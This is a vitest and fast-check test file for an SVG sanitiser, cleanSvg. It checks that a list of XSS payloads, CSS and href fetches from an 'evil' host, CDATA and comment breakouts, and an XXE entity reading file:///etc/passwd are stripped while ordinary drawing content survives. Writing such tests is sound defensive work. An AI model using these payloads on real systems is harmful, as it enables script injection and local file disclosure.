import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cleanSvg } from "./clean-svg.ts";

const wrap = (inner: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inner}</svg>`;

/** Whatever could run, load or navigate. */
const dangers =
  /<script|<foreignObject|<iframe|<a[\s>]|<animate|<set[\s>]|\son\w+\s*=|javascript:|https?:\/\/evil|data:text|@import|<!|<\?|file:/i;

/** Tags and style sheets; other text is only displayed. */
const markup = (svg: string): string =>
  svg.replace(
    /(<style[^>]*>[^<]*<\/style>)|(?<=>)[^<]+(?=<)/g,
    (_text, style: string | undefined) => style ?? "",
  );

const attacks = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  '<script xlink:href="https://evil/x.js"/>',
  '<rect onload="alert(1)" ONCLICK="alert(1)"/>',
  "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
  '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
  '<use href="https://evil/x.svg#a"/>',
  '<use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>',
  '<image href="https://evil/x.png"/>',
  '<image href="data:text/html,<script>alert(1)</script>"/>',
  '<image href="file:///etc/passwd"/>',
  "<style>@import 'https://evil/x.css';</style>",
  "<style>rect{fill:url(https://evil/x)}</style>",
  "<style>rect{fill:u\\72l(https://evil/x)}</style>",
  "<style>&lt;script&gt;alert(1)&lt;/script&gt;</style>",
  "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
  "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
  '<rect style="fill:url(https://evil/x)"/>',
  '<rect fill="url(https://evil/x#a)"/>',
  '<rect filter="url(&quot;https://evil/x&quot;)"/>',
  '<set attributeName="href" to="javascript:alert(1)"/>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
  '<g xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil"/></g>',
  '<iframe src="https://evil"/>',
  "<!--><script>alert(1)</script>-->",
  "<?xml-stylesheet href='https://evil/x.css'?>",
  "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>",
  "<title><script>alert(1)</script></title>",
  "<desc><![CDATA[<script>alert(1)</script>]]></desc>",
];

describe("a cleaned SVG", () => {
  it.each(attacks)("runs and fetches nothing: %s", (attack) => {
    expect(cleanSvg(wrap(attack)) ?? "").not.toMatch(dangers);
  });

  it("has no document type and no entities of its own", () => {
    const bomb = `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY x SYSTEM "file:///etc/passwd">]>${wrap("<text>&a;&x;</text>")}`;
    const clean = cleanSvg(bomb) ?? "";
    expect(clean).not.toMatch(dangers);
    expect(clean).not.toContain("ENTITY");
  });

  it("is its own cleaned copy, whatever it was made of", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(...attacks, "<g>", "</g>", "<rect/>", "]]>", "<![CDATA[", '"', "&lt;", "&amp;lt;"),
        ),
        (parts) => {
          const clean = cleanSvg(wrap(parts.join("")));
          if (clean === null) return;
          expect(markup(clean)).not.toMatch(dangers);
          expect(cleanSvg(clean)).toBe(clean);
        },
      ),
    );
  });

  it("still is the drawing", () => {
    const drawing = `<?xml version="1.0" encoding="UTF-8"?>
      <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><linearGradient id="a" gradientUnits="userSpaceOnUse">
      <stop offset="0" stop-color="#f00"/></linearGradient></defs><style>.b{fill:url(#a);stroke:#000}</style>
      <path class="b" d="M0 0L10 10" style="opacity:.5"/><use href="#a"/><text x="1" y="2">Größe &amp; Maß</text>
      <image href="data:image/png;base64,iVBORw0KGgo="/></svg>`;
    const clean = cleanSvg(drawing) ?? "";
    for (const part of [
      'viewBox="0 0 10 10"',
      "linearGradient",
      'gradientUnits="userSpaceOnUse"',
      ".b{fill:url(#a)",
      'd="M0 0L10 10"',
      "opacity:.5",
      'href="#a"',
      "Größe &amp; Maß",
      "data:image/png",
    ])
      expect(clean).toContain(part);
  });

  it("is nothing where there is no drawing", () => {
    for (const text of ["", "<html/>", "Hallo", "<svg", "<!-- svg -->"]) expect(cleanSvg(text)).toBeNull();
  });
});
